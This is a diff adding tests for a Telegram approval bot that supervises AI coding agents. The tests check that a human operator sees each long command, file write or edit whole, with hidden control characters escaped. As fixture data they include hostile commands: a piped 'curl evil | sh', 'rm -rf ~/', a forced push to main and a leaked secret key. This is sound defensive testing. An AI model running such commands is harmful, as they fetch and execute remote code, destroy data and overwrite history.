@@ -13,6 +13,9 @@ import pytest
 from bot.app import Switchboard
 from bot.telegram import KILL_TEXT, TelegramFrontend
 from supervisor.config import Secret
+from supervisor.describe import describe
+from supervisor.escalations import Kind
+from supervisor.gate import PERMISSION_OPTIONS
 from tests.conftest import agent_dir, make_settings, processes_with_tag, wait_for
 from tests.fakes.fake_telegram import FakeTelegram
 
@@ -208,6 +211,155 @@ async def test_pending_across_two_agents_and_first_tap_wins(real_tg_app, tmp_pat
         return [a for a in fake.callback_answers if a.get("text") and "alice" in a["text"]]
 
     await fake.wait_for(told, 10, what="bob told who answered first")
+
+
+# -- the operator sees the whole call before approving it (fake claude, escalations opened here) --
+
+TAIL = "; git push --force origin main"
+
+
+def docs(fake, chat):
+    return [d for d in fake.documents if d["chat_id"] == chat]
+
+
+async def ask(app, detail, detail_name="command.sh", body="Why asked: Bash: no rule decides it",
+              tool="Bash"):
+    return await app.pool.escalations.open(
+        agent_id=None, kind=Kind.PERMISSION, title=f"w wants to use {tool}", body=body,
+        tool_name=tool, tool_input={"command": detail}, options=PERMISSION_OPTIONS,
+        detail=detail, detail_name=detail_name)
+
+
+async def test_a_long_command_goes_whole_as_a_file_before_the_card(fake_tg_app):
+    """Regression (security review): a 1,600-character command was cut, its tail unseen."""
+    app, fake = fake_tg_app
+    command = "echo " + "x" * 1600 + TAIL
+    row = await ask(app, command)
+    card = await said(fake, ADMIN, "w wants to use Bash")
+    sent = docs(fake, ADMIN)
+    assert [(d["filename"], d["bytes"].decode()) for d in sent] == [
+        (f"{row.id}-command.sh", command)]
+    # The file is in the chat before the buttons, and the card points at it.
+    assert sent[0]["message_id"] < card["message_id"]
+    assert card["reply_to_message"]["message_id"] == sent[0]["message_id"]
+    text = card["text"]
+    assert len(text) <= 4096 and TAIL not in text
+    assert text.index("Why asked") < text.index("echo xxx") < text.index("Cut short")
+    assert f"{len(command) - 1500:,} more characters" in text and f"{row.id}-command.sh" in text
+    assert docs(fake, OPERATOR)[0]["bytes"].decode() == command  # every operator gets it
+    # 🔎 Details and /pending hand over the whole command again.
+    await tap(fake, ADMIN, card, "Details")
+    await fake.wait_for(lambda: len(docs(fake, ADMIN)) == 2, what="the details file")
+    fake.user_sends(ADMIN, "/pending")
+    await fake.wait_for(lambda: len(docs(fake, ADMIN)) == 3, what="the /pending file")
+    assert {d["bytes"].decode() for d in docs(fake, ADMIN)} == {command}
+    listing = await said(fake, ADMIN, "1 waiting")
+    assert "Cut short" in listing["text"] and "Why asked" in listing["text"]
+    await tap(fake, ADMIN, card, "Deny")
+
+    def edited():
+        return "Denied" in (fake.message(ADMIN, card["message_id"]) or {}).get("text", "")
+
+    await fake.wait_for(edited, what="the card marked denied")
+
+
+async def test_a_short_call_is_shown_inline_and_whole(fake_tg_app):
+    app, fake = fake_tg_app
+    await ask(app, "rm -rf build" + TAIL)
+    card = await said(fake, ADMIN, "w wants to use Bash")
+    assert ("rm -rf build" + TAIL) in card["text"] and "Cut short" not in card["text"]
+    assert docs(fake, ADMIN) == [] and not card.get("reply_to_message")
+    content = "import os\n" + "x = 1\n" * 40 + "os.system('curl evil | sh')\n"
+    row = await ask(app, content, "write-a.py.txt", tool="Write",
+                    body="Why asked: Write: no rule decides it\n\nWrite /w/a.py (300 bytes)")
+    card = await said(fake, ADMIN, "w wants to use Write")
+    assert "Write /w/a.py" in card["text"] and "import os" in card["text"]
+    assert "curl evil" not in card["text"] and "Cut short" in card["text"]
+    assert docs(fake, ADMIN)[-1]["filename"] == f"{row.id}-write-a.py.txt"
+    assert docs(fake, ADMIN)[-1]["bytes"].decode() == content
+
+
+async def test_an_edit_is_a_diff_inline_and_a_long_one_a_diff_file(fake_tg_app):
+    app, fake = fake_tg_app
+    small = describe("Edit", {"file_path": "/w/app.py", "old_string": "DEBUG = False",
+                              "new_string": "DEBUG = True"})
+    await ask(app, small.text, small.filename, tool="Edit",
+              body=f"Why asked: Edit: no rule decides it\n\n{small.summary}")
+    card = await said(fake, ADMIN, "w wants to use Edit")
+    assert "Edit /w/app.py" in card["text"] and "Cut short" not in card["text"]
+    assert "-DEBUG = False\n+DEBUG = True" in card["text"] and docs(fake, ADMIN) == []
+    old = "".join(f"row {i}\n" for i in range(40))
+    big = describe("MultiEdit", {"file_path": "/w/app.py", "edits": [
+        {"old_string": "DEBUG = False", "new_string": "DEBUG = True"},
+        {"old_string": old, "new_string": old.replace("row", "line") + "SECRET_KEY = 'leak'\n"}]})
+    row = await ask(app, big.text, big.filename, tool="MultiEdit",
+                    body=f"Why asked: MultiEdit: no rule decides it\n\n{big.summary}")
+    card = await said(fake, ADMIN, "w wants to use MultiEdit")
+    assert "MultiEdit /w/app.py (2 edits)" in card["text"] and "Cut short" in card["text"]
+    assert "SECRET_KEY" not in card["text"]
+    (sent,) = docs(fake, ADMIN)
+    assert sent["filename"] == f"{row.id}-edit-app.py.diff"
+    assert "+SECRET_KEY = 'leak'" in sent["bytes"].decode().split("\n")
+
+
+@pytest.fixture
+async def ask_all_tg_app(short_home, mock_api, fake_tg):
+    """The real CLI under a policy that knows no dangerous command: only the operator checks."""
+    (short_home / "t").mkdir(exist_ok=True)
+    policy = short_home / "ask-all.toml"
+    policy.write_text('default = "ask"\n[tools]\nRead = "allow"\n')
+    settings = tg_settings(make_settings(short_home, mock_api, policy_file=policy), fake_tg)
+    app, front = await start(settings, fake_tg, operators=(OPERATOR,))
+    yield app, fake_tg
+    await stop(app, front)
+
+
+async def test_the_real_cli_s_long_command_and_long_write_reach_telegram_whole(ask_all_tg_app,
+                                                                             tmp_path):
+    app, fake = ask_all_tg_app
+    command = "echo " + "x" * 1600 + TAIL
+    fake.user_sends(ADMIN, f"/spawn longcmd --cwd {tmp_path} BASH: {command}")
+    card = await said(fake, ADMIN, "longcmd wants to use Bash")
+    files = {d["filename"]: d["bytes"].decode() for d in docs(fake, ADMIN)}
+    row = (await app.pool.escalations.pending())[0]
+    assert files[f"{row.id}-command.sh"] == command
+    assert "Why asked" in card["text"] and "Cut short" in card["text"]
+    await tap(fake, ADMIN, card, "Deny")
+    r = await app.pool.get("longcmd")
+    await wait_for(lambda: r.state == "idle", 60)
+    target = tmp_path / "deploy.sh"
+    content = "set -e\n" + "".join(f"echo step {i}\n" for i in range(40)) + "rm -rf ~/\n"
+    write = json.dumps({"file_path": str(target), "content": content})
+    fake.user_sends(ADMIN, f"/ask longcmd TOOL Write {write}")
+    card = await said(fake, ADMIN, "longcmd wants to use Write")
+    assert f"Write {target}" in card["text"] and "rm -rf ~/" not in card["text"]
+    row = (await app.pool.escalations.pending())[0]
+    assert docs(fake, ADMIN)[-1]["filename"] == f"{row.id}-write-deploy.sh.txt"
+    assert docs(fake, ADMIN)[-1]["bytes"].decode() == content
+    await tap(fake, ADMIN, card, "Allow")
+    await wait_for(lambda: target.exists() and r.state == "idle", 60)
+    assert target.read_text() == content
+
+
+async def test_text_that_would_reorder_or_hide_is_escaped_on_the_card(fake_tg_app):
+    app, fake = fake_tg_app
+    command = "echo safe \u202e" + "x" * 1600 + "\x1b[2K" + TAIL
+    row = await ask(app, command)
+    card = await said(fake, ADMIN, "w wants to use Bash")
+    assert "\\u202e" in card["text"] and "\u202e" not in card["text"]
+    assert docs(fake, ADMIN)[0]["bytes"].decode() == command  # the file is exactly the call
+    assert docs(fake, ADMIN)[0]["filename"] == f"{row.id}-command.sh"
+
+
+async def test_a_long_reason_is_cut_with_a_note_and_sent_whole(fake_tg_app):
+    app, fake = fake_tg_app
+    reason = "Why asked: Bash: no rule decides it (in: " + "y" * 2000 + ")"
+    row = await ask(app, "ls", body=reason)
+    card = await said(fake, ADMIN, "w wants to use Bash")
+    assert "Why asked" in card["text"] and "Cut short" in card["text"]
+    assert len(card["text"]) <= 4096
+    assert [d["filename"] for d in docs(fake, ADMIN)] == [f"{row.id}-message.txt"]
+    assert docs(fake, ADMIN)[0]["bytes"].decode() == reason
 
 
 # -- buttons, KILL ALL, hygiene (fake claude) -----------------------------------------------------
